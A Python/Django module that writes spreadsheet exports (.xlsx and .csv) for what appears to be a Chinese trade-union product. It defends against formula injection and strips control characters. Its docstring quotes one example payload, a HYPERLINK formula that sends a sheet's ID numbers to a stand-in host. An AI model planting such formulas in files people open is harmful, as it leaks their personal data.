"""One writer for every .xlsx and .csv the product hands out.

Exports are row generators (see members, activities): ``write_xlsx`` streams them into a file
without holding the sheet in memory, using openpyxl's write-only mode.

Every text cell passes ``safe_text`` on its way out, because an export is read by someone other
than the person who typed into it:
- a value starting with ``= + - @``, a tab or a carriage return is what Excel, WPS and LibreOffice
  take for a formula (``=HYPERLINK("http://x/?d="&D3,"查看")`` in a note would send the ID numbers
  of the reader's sheet away); it is written with a leading apostrophe, and in .xlsx as a string
  cell, so it shows as the text it is;
- control characters (a vertical tab pasted from Word) make a workbook that Excel refuses to open,
  and openpyxl refuses to write one; they are dropped, for .csv too.

A titled .xlsx is a document for people, ready for the office: the sheet named for its content, a
merged title row, a 序号 column, and print setup (landscape, one page wide, the header row repeated
on every page). Dates and times are real date cells (a moment in the reader's time zone), shown
2027年3月5日 in Chinese. An untitled one is data for machines (failed rows to fix and import again) and gets
only the header. .csv is always plain data.
"""

import csv
import datetime
import io
import re
import tempfile
from collections.abc import Iterable, Sequence
from dataclasses import dataclass
from decimal import Decimal

from django.utils import timezone
from django.utils.translation import get_language
from django.utils.translation import gettext as _
from openpyxl import Workbook
from openpyxl.cell import WriteOnlyCell
from openpyxl.styles import Alignment, Border, Font, NamedStyle, PatternFill, Side
from openpyxl.utils import get_column_letter
from openpyxl.worksheet.properties import PageSetupProperties
from openpyxl.worksheet.worksheet import Worksheet

from core.cleaning import CONTROL_CHARACTERS  # what XML, so .xlsx, cannot hold

XLSX_TYPE = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
CSV_TYPE = "text/csv; charset=utf-8"

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
# Characters Excel refuses in a sheet name.
SHEET_NAME_REFUSED = re.compile(r"[\[\]:*?/\\]")


# Yuan as officers write them: thousands grouped, always two decimals (1,280.00).
MONEY = "#,##0.00"
# Dates as a Chinese reader writes them (Excel's own 2027年3月5日 format); other languages read ISO.
CHINESE_DATE = 'yyyy"年"m"月"d"日"'
CHINESE_DATETIME = 'yyyy"年"m"月"d"日" hh:mm'
# Widths that show them whole: a date too wide for its column reads ######## in Excel, and each of
# 年月日 is two characters wide (2026年10月23日 is 14; with the time, 20).
DATE_WIDTH = 16
DATETIME_WIDTH = 22


@dataclass(frozen=True)
class Column:
    header: str
    width: int = 14  # in characters; a Chinese character counts about two
    number_format: str = ""  # for the column's number cells, e.g. MONEY


def safe_text(value) -> str:
    """The text of a cell as a spreadsheet may be given it: controls dropped, formulas made inert."""
    text = CONTROL_CHARACTERS.sub("", "" if value is None else str(value))
    if text.startswith(FORMULA_STARTS):
        return "'" + text
    return text


def _cell_value(value):
    """Numbers, dates and booleans stay typed; everything else is made safe text."""
    if isinstance(value, datetime.datetime):
        return _local(value)
    if value is None or isinstance(value, int | float | Decimal) or hasattr(value, "isoformat"):
        return value
    return safe_text(value)


def _local(moment: datetime.datetime) -> datetime.datetime:
    """A sheet has no time zones (openpyxl refuses an aware datetime): the moment as the reader's clock
    showed it, to the minute."""
    if timezone.is_aware(moment):
        moment = timezone.make_naive(moment)
    return moment.replace(second=0, microsecond=0)


def _date_formats() -> tuple[str, str]:
    if (get_language() or "").startswith("zh"):
        return CHINESE_DATE, CHINESE_DATETIME
    return "yyyy-mm-dd", "yyyy-mm-dd hh:mm"


def _csv_value(value) -> str:
    if isinstance(value, datetime.datetime):
        return f"{_local(value):%Y-%m-%d %H:%M}"
    return safe_text(value)


def sheet_name(name: str) -> str:
    """A sheet name Excel accepts: no ``[]:*?/\\``, at most 31 characters, never empty."""
    cleaned = SHEET_NAME_REFUSED.sub("", CONTROL_CHARACTERS.sub("", str(name))).strip("' ")
    return cleaned[:31] or "Sheet1"


def write_xlsx(
    columns: Sequence[Column],
    rows: Iterable[Sequence],
    *,
    title: str = "",
    sheet: str = "",
    numbered: bool | None = None,
) -> bytes:
    """Return the bytes of a styled workbook (see the module's docstring for what a title brings).

    ``sheet`` names the sheet (default: the title); ``numbered`` adds the 序号 column (default: with a
    title, unless the columns already start with one).
    """
    with tempfile.SpooledTemporaryFile(max_size=8 * 1024 * 1024) as buffer:
        save_xlsx(columns, rows, buffer, title=title, sheet=sheet, numbered=numbered)
        buffer.seek(0)
        return buffer.read()


def save_xlsx(columns, rows, target, *, title="", sheet="", numbered=None):
    """``write_xlsx`` into the binary file ``target`` (a background export's file): the rows are never
    all in memory, nor is the workbook."""
    headers = [str(column.header) for column in columns]
    if numbered is None:
        numbered = bool(title) and _("序号") not in headers[:1]
    widths = [column.width for column in columns]
    formats = [column.number_format for column in columns]
    if numbered:
        headers, widths, formats = [_("序号"), *headers], [6, *widths], ["", *formats]
    workbook = Workbook(write_only=True)
    worksheet = workbook.create_sheet(sheet_name(sheet or title or "Sheet1"))
    header_row = 2 if title else 1
    _set_up_page(worksheet, widths, header_row)
    if title:
        worksheet.append([_title_cell(worksheet, title)])
        worksheet.merged_cells.add(f"A1:{get_column_letter(len(headers))}1")
    worksheet.append([_header_cell(worksheet, header) for header in headers])
    body = _BodyStyles(workbook)
    for number, row in enumerate(rows, start=1):
        values = [_cell_value(value) for value in row]
        values = [number, *values] if numbered else values
        formatted = zip(values, [*formats, *[""] * (len(values) - len(formats))], strict=False)
        worksheet.append([_body_cell(worksheet, value, body.named(fmt, value)) for value, fmt in formatted])
    workbook.save(target)


def _set_up_page(worksheet, widths, header_row):
    """Widths, the frozen header and print setup; a write-only sheet takes them before its first row."""
    for index, width in enumerate(widths, start=1):
        worksheet.column_dimensions[get_column_letter(index)].width = width
    worksheet.freeze_panes = f"A{header_row + 1}"
    worksheet.page_setup.orientation = "landscape"
    worksheet.page_setup.paperSize = Worksheet.PAPERSIZE_A4
    worksheet.page_setup.fitToWidth = 1
    worksheet.page_setup.fitToHeight = 0  # as many pages down as the rows need
    worksheet.sheet_properties.pageSetUpPr = PageSetupProperties(fitToPage=True)
    worksheet.print_title_rows = f"{header_row}:{header_row}"
    worksheet.print_options.horizontalCentered = True


_THIN = Side(style="thin", color="BBBBBB")
_BORDER = Border(left=_THIN, right=_THIN, top=_THIN, bottom=_THIN)


def _title_cell(worksheet, title):
    cell = WriteOnlyCell(worksheet, value=safe_text(title))
    cell.font = Font(bold=True, size=14)
    cell.alignment = Alignment(horizontal="center", vertical="center")
    return cell


def _header_cell(worksheet, header):
    cell = WriteOnlyCell(worksheet, value=safe_text(header))
    cell.font = Font(bold=True, color="FFFFFF")
    cell.fill = PatternFill("solid", fgColor="B71C1C")
    cell.alignment = Alignment(horizontal="center", vertical="center", wrap_text=True)
    cell.border = _BORDER
    return cell


class _BodyStyles:
    """The body cells' styles (a border; a number format on number cells), each registered once with
    the workbook as a named style. Set cell by cell, a border is hashed into the workbook's list of
    borders for every cell: three quarters of the time of a large roster (60 s for 97,000 members)."""

    def __init__(self, workbook):
        self.workbook = workbook
        self.names = {}
        self.date, self.datetime = _date_formats()

    def named(self, number_format, value):
        if isinstance(value, datetime.datetime):
            key = self.datetime  # a date cell reads as a date only with a date's format
        elif isinstance(value, datetime.date):
            key = self.date
        else:
            key = number_format if number_format and isinstance(value, int | float | Decimal) else ""
        if key not in self.names:
            name = f"gonghui-body-{len(self.names)}"
            self.workbook.add_named_style(NamedStyle(name=name, border=_BORDER, number_format=key or "General"))
            self.names[key] = name
        return self.names[key]


def _body_cell(worksheet, value, style):
    cell = WriteOnlyCell(worksheet, value=value)
    if isinstance(value, str):
        # A string cell, whatever openpyxl would guess: "=..." is never written as a formula.
        cell.data_type = "s"
    cell.style = style
    return cell


def write_csv(columns: Sequence[Column], rows: Iterable[Sequence]) -> bytes:
    """UTF-8 with a byte-order mark, which Excel on a Chinese Windows needs to read it."""
    out = io.BytesIO()
    save_csv(columns, rows, out)
    return out.getvalue()


def save_csv(columns, rows, target):
    """``write_csv`` into the binary file ``target``, row by row."""
    text = io.TextIOWrapper(target, encoding="utf-8", newline="", write_through=True)
    try:
        text.write("\ufeff")
        writer = csv.writer(text)
        writer.writerow([safe_text(c.header) for c in columns])
        for row in rows:
            writer.writerow([_csv_value(v) for v in row])
        text.flush()
    finally:
        text.detach()  # the caller's file stays open


def table_response(columns, rows, *, filename: str, fmt: str = "xlsx", title: str = "", sheet: str = "", numbered=None):
    """An HttpResponse with the table as an attachment, .xlsx or .csv (``numbered`` as write_xlsx's)."""
    from django.http import HttpResponse

    if fmt == "csv":
        response = HttpResponse(write_csv(columns, rows), content_type=CSV_TYPE)
        filename = f"{filename}.csv"
    else:
        response = HttpResponse(
            write_xlsx(columns, rows, title=title, sheet=sheet, numbered=numbered), content_type=XLSX_TYPE
        )
        filename = f"{filename}.xlsx"
    from django.utils.http import content_disposition_header

    response["Content-Disposition"] = content_disposition_header(True, file_name(filename))
    return response


# What a file name may not hold on Windows (and "/" nowhere): an activity called "3/8妇女节" names its list.
FILE_NAME_REFUSED = re.compile(r'[\\/:*?"<>|\x00-\x1f]')


def file_name(name: str) -> str:
    """``name`` as a downloaded file may be called: the characters a system refuses become "-"."""
    return FILE_NAME_REFUSED.sub("-", name).strip() or "export"
